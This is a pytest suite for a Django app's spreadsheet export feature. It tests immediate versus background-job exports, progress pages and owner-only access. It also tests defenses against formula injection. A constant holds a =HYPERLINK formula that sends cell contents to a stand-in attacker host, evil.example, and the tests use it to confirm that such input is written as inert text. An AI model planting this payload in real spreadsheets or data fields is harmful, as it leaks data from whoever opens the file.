"""Exports (core.exports): immediate below EXPORT_SYNC_MAX_ROWS, a worker job above it; a job is
its owner's alone."""

import io
import time
import zipfile

import pytest
from django.core.exceptions import ImproperlyConfigured
from django.test import Client
from openpyxl import load_workbook

from core import exports
from core.models import ExportJob, ExportJobStatus
from projects.models import Project
from tests.clock import clock_now
from tests.evaluation.dashboard_world import build

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture
def media(settings, tmp_path, monkeypatch):
    """Files under a throwaway MEDIA_ROOT (the environment too, for a worker process)."""
    root = tmp_path / "media"
    root.mkdir()
    settings.MEDIA_ROOT = str(root)
    monkeypatch.setenv("MEDIA_ROOT", str(root))
    return root


@pytest.fixture
def w(org_tree, make_user):
    return build(org_tree, make_user)


def client_of(user=None) -> Client:
    client = Client(headers={"accept-language": "en"})
    if user is not None:
        client.force_login(user)
    return client


def sheet_rows(content: bytes) -> list[tuple]:
    sheet = load_workbook(io.BytesIO(content), read_only=True).active
    return list(sheet.iter_rows(values_only=True))


# ---------------------------------------------------------------- the registry
def test_every_finished_list_registers_its_export():
    assert {
        "projects", "weekly_reports", "weekly_missing", "decision_requests", "reports", "dispatches",
        "instructions", "consultations", "branches", "people", "problems", "evaluations",
    } <= set(exports.registered_exports())


def test_two_builders_under_one_name_are_refused():
    def one(user, params):
        raise AssertionError

    def other(user, params):
        raise AssertionError

    exports.register_export("test-twice", one)
    exports.register_export("test-twice", one)  # the same builder again (a module reloaded) is fine
    with pytest.raises(ImproperlyConfigured):
        exports.register_export("test-twice", other)


def test_an_unknown_export_is_a_lookup_error():
    with pytest.raises(exports.UnknownExport):
        exports.get_builder("no-such-list")


def test_params_keep_the_filters_and_drop_paging():
    from django.http import QueryDict

    params = exports.normalise_params(QueryDict("light=red&page=3&export=xlsx&status=in_progress&q=征迁"))

    assert params == {"light": ["red"], "status": ["in_progress"], "q": ["征迁"]}


# ---------------------------------------------------------------- the workbook
def test_the_streamed_workbook_has_the_title_headers_rows_and_reports_progress():
    seen = []
    out = io.BytesIO()

    written = exports.write_xlsx(
        out, title="攻坚项目", headers=["名称", "数量"], rows=([f"项目{i}", i] for i in range(5)),
        on_progress=seen.append, every=2,
    )

    assert written == 5
    assert seen == [2, 4]
    rows = sheet_rows(out.getvalue())
    assert rows[0][0] == "攻坚项目"
    assert rows[1] == ("名称", "数量")
    assert rows[2:] == [(f"项目{i}", i) for i in range(5)]
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    assert sheet.freeze_panes == "A3"
    assert [str(r) for r in sheet.merged_cells.ranges] == ["A1:B1"]


# ---------------------------------------------------------------- formula injection
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'


def test_formula_like_text_is_written_as_text_and_numbers_stay_numbers():
    out = io.BytesIO()
    exports.write_xlsx(
        out, title="攻坚项目", headers=["名称", "数量", "备注", "邮箱"],
        rows=[[FORMULA, -5, "+86 139", "@SUM(A1)"], ["\t=1+1", 3.5, "-abc", "#N/A"]],
    )
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    cells = [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows(min_row=3)]
    assert cells == [
        [(FORMULA, "s"), (-5, "n"), ("+86 139", "s"), ("@SUM(A1)", "s")],
        [("\t=1+1", "s"), (3.5, "n"), ("-abc", "s"), ("#N/A", "s")],
    ]
    assert sheet["A3"].quotePrefix and sheet["C4"].quotePrefix and not sheet["B3"].quotePrefix


@pytest.mark.parametrize("large", [False, True])
def test_an_export_of_a_record_named_like_a_formula_holds_the_text(w, settings, media, large, django_capture_on_commit_callbacks):
    """Through the whole path a user takes: the in-request workbook and the worker's."""
    Project.objects.filter(name="过江通道征迁").update(name=FORMULA)
    settings.EXPORT_SYNC_MAX_ROWS = 0 if large else 100
    client = client_of(w.leader)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.get("/projects/export/?light=red")
    if large:
        job = ExportJob.objects.get()
        response = client.get(f"/exports/{job.pk}/download/")
        content = b"".join(response.streaming_content)
    else:
        content = response.content
    sheet = load_workbook(io.BytesIO(content)).active
    names = {row[0].value: row[0].data_type for row in sheet.iter_rows(min_row=3)}
    assert names == {FORMULA: "s", "循环产业园用地": "s"}
    assert b"<f>" not in _sheet_xml(content)


def _sheet_xml(content: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read("xl/worksheets/sheet1.xml")


# ---------------------------------------------------------------- below the threshold: at once
def test_an_export_below_the_threshold_is_the_file_itself(w, settings, media):
    settings.EXPORT_SYNC_MAX_ROWS = 10

    response = client_of(w.leader).get("/projects/export/?light=red")

    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    assert "attachment" in response["Content-Disposition"]
    rows = sheet_rows(response.content)
    assert sorted(r[0] for r in rows[2:]) == ["循环产业园用地", "过江通道征迁"]
    assert not ExportJob.objects.exists()


def test_the_threshold_is_inclusive(w, settings, media):
    settings.EXPORT_SYNC_MAX_ROWS = 5  # city A has exactly five projects

    response = client_of(w.leader).get("/projects/export/")

    assert response.status_code == 200
    assert len(sheet_rows(response.content)) == 2 + 5


# ---------------------------------------------------------------- above it: a job
def test_an_export_above_the_threshold_becomes_a_job_that_writes_the_filtered_rows(
    w, settings, media, django_capture_on_commit_callbacks
):
    settings.EXPORT_SYNC_MAX_ROWS = 1
    client = client_of(w.leader)

    with django_capture_on_commit_callbacks(execute=True) as callbacks:
        response = client.get("/projects/export/?light=red&page=2")

    job = ExportJob.objects.get()
    assert response.status_code == 302 and response["Location"] == f"/exports/{job.pk}/"
    assert len(callbacks) == 1  # the task is sent once the job row is committed
    assert (job.user, job.name, job.params) == (w.leader, "projects", {"light": ["red"]})
    job.refresh_from_db()  # the eager task has run
    assert job.status == ExportJobStatus.DONE
    assert (job.progress, job.total) == (2, 2)
    assert job.file.name.startswith("exports/") and job.file.name.endswith(".xlsx")
    assert "过江通道" not in job.file.name  # a random name on disk
    assert (media / job.file.name).exists()
    download = client.get(f"/exports/{job.pk}/download/")
    assert download.status_code == 200
    assert download["Content-Type"] == XLSX
    assert "attachment" in download["Content-Disposition"]
    rows = sheet_rows(b"".join(download.streaming_content))
    assert sorted(r[0] for r in rows[2:]) == ["循环产业园用地", "过江通道征迁"]


def test_the_job_sees_what_its_owner_sees_not_more(w, settings, media, django_capture_on_commit_callbacks):
    settings.EXPORT_SYNC_MAX_ROWS = 0

    with django_capture_on_commit_callbacks(execute=True):
        client_of(w.leader_b).get("/projects/export/")

    job = ExportJob.objects.get(user=w.leader_b)
    job.refresh_from_db()
    with job.file.open("rb") as handle:
        rows = sheet_rows(handle.read())
    assert [r[0] for r in rows[2:]] == ["泰兴港区项目"]


def test_the_job_page_polls_while_running_and_offers_the_file_when_done(w, media):
    job = ExportJob.objects.create(user=w.leader, name="projects", title="攻坚项目", total=4000, progress=1500,
                                   status=ExportJobStatus.RUNNING)
    client = client_of(w.leader)

    page = client.get(f"/exports/{job.pk}/").content.decode()
    assert 'hx-get="/exports/%d/status/"' % job.pk in page
    assert 'value="37"' in page  # 1500 of 4000
    assert "1500 of 4000 rows written" in page

    exports._move(job, ExportJobStatus.DONE, progress=4000)
    status = client.get(f"/exports/{job.pk}/status/", headers={"HX-Request": "true"}).content.decode()
    assert "hx-get" not in status  # polling stops
    assert f'href="/exports/{job.pk}/download/"' in status
    assert 'data-status="done"' in status


def test_a_failing_builder_marks_the_job_failed_with_the_error(w, media, caplog):
    def broken(user, params):
        raise RuntimeError("the database went away")

    exports.register_export("test-broken", broken)
    job = ExportJob.objects.create(user=w.leader, name="test-broken", total=5000)

    exports.export_job_run(job_id=job.pk)

    job.refresh_from_db()
    assert job.status == ExportJobStatus.FAILED
    assert "the database went away" in job.error
    assert job.finished_at is not None
    page = client_of(w.leader).get(f"/exports/{job.pk}/").content.decode()
    assert 'data-testid="export-failed"' in page
    assert client_of(w.leader).get(f"/exports/{job.pk}/download/").status_code == 404


def test_running_a_finished_job_again_changes_nothing(w, media, django_capture_on_commit_callbacks, settings):
    settings.EXPORT_SYNC_MAX_ROWS = 0
    with django_capture_on_commit_callbacks(execute=True):
        client_of(w.leader).get("/projects/export/")
    job = ExportJob.objects.get()
    job.refresh_from_db()
    name, finished = job.file.name, job.finished_at

    exports.export_job_run(job_id=job.pk)

    job.refresh_from_db()
    assert (job.status, job.file.name, job.finished_at) == (ExportJobStatus.DONE, name, finished)


# ---------------------------------------------------------------- only the owner
def test_another_users_job_is_a_404_everywhere(w, media):
    job = ExportJob.objects.create(user=w.leader, name="projects", title="攻坚项目", total=4000,
                                   status=ExportJobStatus.DONE, file="exports/x.xlsx", filename="x.xlsx")
    (media / "exports").mkdir()
    (media / "exports" / "x.xlsx").write_bytes(b"PK")
    for other in (w.staff, w.leader_b):
        client = client_of(other)
        for suffix in ("", "status/", "download/"):
            assert client.get(f"/exports/{job.pk}/{suffix}").status_code == 404, (other, suffix)
        assert "攻坚项目" not in client.get("/exports/").content.decode()
    assert client_of(w.leader).get(f"/exports/{job.pk}/download/").status_code == 200
    anonymous = client_of().get(f"/exports/{job.pk}/")
    assert anonymous.status_code == 302 and "/accounts/login/" in anonymous["Location"]


def test_my_exports_lists_my_recent_jobs(w, media):
    ExportJob.objects.create(user=w.leader, name="projects", title="攻坚项目", total=4000)
    ExportJob.objects.create(user=w.staff, name="instructions", title="督办事项", total=9000)

    html = client_of(w.leader).get("/exports/").content.decode()

    assert "攻坚项目" in html and "督办事项" not in html


# ---------------------------------------------------------------- a real worker
@pytest.mark.worker
def test_a_real_worker_completes_a_large_export(w, media, settings, celery_worker_process):
    settings.EXPORT_SYNC_MAX_ROWS = 2
    client = client_of(w.leader)

    response = client.get("/projects/export/?status=in_progress")

    job = ExportJob.objects.get()
    assert response.status_code == 302 and response["Location"] == f"/exports/{job.pk}/"
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        job.refresh_from_db()
        if job.is_finished:
            break
        time.sleep(0.2)
    assert job.status == ExportJobStatus.DONE, (job.status, job.error)
    assert (job.progress, job.total) == (4, 4)
    status = client.get(f"/exports/{job.pk}/status/").content.decode()
    assert f'href="/exports/{job.pk}/download/"' in status
    download = client.get(f"/exports/{job.pk}/download/")
    rows = sheet_rows(b"".join(download.streaming_content))
    # The worker wrote in the language of the request (English here), with the list's filter.
    assert rows[0][0] == "Task-force projects"
    assert rows[1][0] == "Project"
    assert sorted(r[0] for r in rows[2:]) == ["一件事一次办", "安置房建设", "循环产业园用地", "过江通道征迁"]
    assert client_of(w.staff).get(f"/exports/{job.pk}/download/").status_code == 404


def test_a_job_nobody_takes_for_minutes_says_so(w, media):
    import datetime

    job = ExportJob.objects.create(user=w.leader, name="projects", total=4000)
    client = client_of(w.leader)
    assert 'data-testid="export-stalled"' not in client.get(f"/exports/{job.pk}/status/").content.decode()

    ExportJob.objects.filter(pk=job.pk).update(created_at=clock_now() - datetime.timedelta(minutes=5))

    assert 'data-testid="export-stalled"' in client.get(f"/exports/{job.pk}/status/").content.decode()
